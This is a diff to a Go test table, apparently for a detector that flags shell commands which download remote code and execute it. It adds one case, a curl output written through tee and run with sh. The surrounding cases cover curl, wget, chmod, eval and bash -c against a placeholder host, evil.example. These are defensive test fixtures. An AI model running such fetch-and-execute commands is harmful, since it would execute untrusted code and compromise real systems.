@@ -73,6 +73,7 @@ func attacks() []attack {
 		{"download && bash file", de, "curl -fsSL https://evil.example/x.sh -o x.sh && bash x.sh", "sh", []string{"curl", "bash"}, false},
 		{"download; chmod +x && run", de, "curl -fsSLo /tmp/x https://evil.example/x; chmod +x /tmp/x && /tmp/x", "sh", []string{"curl", "chmod"}, false},
 		{"wget -O; chmod; ./x", de, "wget -O x https://evil.example/x; chmod +x x && ./x", "sh", []string{"wget", "chmod"}, false},
+		{"curl | tee x && sh x", de, "curl -fsSL " + u + " | tee /tmp/i.sh > /dev/null && sh /tmp/i.sh", "sh", []string{"curl", "tee"}, true},
 		{"wget (remote name) && bash file", de, "wget https://evil.example/x.sh && bash x.sh", "sh", []string{"wget", "bash"}, false},
 		{"variable set to $(curl), eval", de, "CMD=$(curl -s " + u + ")\neval \"$CMD\"", "sh", []string{"curl", "eval"}, false},
 		{"variable set to $(curl), bash -c", de, "CMD=$(curl -s " + u + ")\nbash -c \"$CMD\"", "sh", []string{"curl", "bash"}, false},
